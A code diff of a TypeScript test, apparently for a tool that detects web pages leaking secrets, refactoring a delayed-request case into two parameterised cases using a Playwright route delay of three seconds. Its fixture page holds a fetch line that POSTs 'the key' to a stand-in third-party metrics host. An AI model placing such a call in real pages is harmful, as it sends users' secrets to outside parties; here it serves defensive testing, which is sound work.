@@ -9,13 +9,24 @@ import { defineCheck } from './define.ts'
 import { runCheck } from './run.ts'
 import { openSession } from './session.ts'
 
-const page = `<!doctype html><script>
-  fetch('https://metrics.third-party.example/setup', { method: 'POST', mode: 'no-cors', body: 'the key' })
-</script>`
-/** The connection for the request takes three seconds, as on a busy machine. */
-const driver = `
+const report = `fetch('https://metrics.third-party.example/setup', { method: 'POST', mode: 'no-cors', body: 'the key' })`
+/** As on a busy machine. */
+const late = {
+  'a request that is three seconds on its way': {
+    script: report,
+    open: `await page.route('**/setup', (route) => setTimeout(() => route.continue(), 3000))`,
+  },
+  'what follows from an answer that is three seconds on its way': {
+    script: `fetch('/state').then(() => ${report})`,
+    open: `await page.route('**/state', async (route) => {
+      const response = await route.fetch()
+      setTimeout(() => route.fulfill({ response }), 3000)
+    })`,
+  },
+}
+const driverThat = (open: string) => `
   export const open = async (page) => {
-    await page.route('**/setup', (route) => setTimeout(() => route.continue(), 3000))
+    ${open}
     await page.goto(location)
   }
   export const signIn = async (page) => {}
@@ -23,12 +34,13 @@ const driver = `
   export const signOut = async (page) => {}
 `
 
-test('a request that is long on its way is waited for, and seen', async () => {
+test.each(Object.entries(late))('%s is waited for, and seen', async (_, { script, open }) => {
+  const page = `<!doctype html><script>${script}</script>`
   const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(page))
   await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
   const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
   const directory = await mkdtemp(join(tmpdir(), 'twotoken-late-'))
-  await writeFile(join(directory, 'driver.mjs'), driver.replace('location', JSON.stringify(url)))
+  await writeFile(join(directory, 'driver.mjs'), driverThat(open).replace('location', JSON.stringify(url)))
   let seen: readonly string[] = []
   const check = defineCheck({
     id: 'CLI-03',
